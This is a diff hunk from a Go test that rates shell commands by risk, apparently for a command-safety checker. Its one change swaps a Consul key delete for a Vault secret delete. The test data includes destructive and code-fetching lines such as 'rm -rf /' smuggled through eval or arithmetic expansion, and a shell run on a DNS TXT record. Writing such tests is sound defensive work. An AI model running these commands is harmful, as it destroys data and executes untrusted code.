@@ -197,7 +197,7 @@ func TestForms(t *testing.T) {
 		"eval \"$(cat setup.txt)\"; echo 'rm -rf /'":          Critical, // any text of the line may be what runs
 		"sh -c \"$(dig +short txt c.example)\"":               Critical, // text of another machine
 		"x='a[$(rm -rf /)]'; echo $((x))":                     Critical,
-		"consul kv delete a":                                  High,
+		"vault kv delete secret/a":                            High,
 		"FOO_PAGER=./x.sh frob":                               High,
 		"gcc -fplugin=./x.so a.c":                             High,
 		"curl --dump-header ~/.bashrc http://localhost:8080/": High,
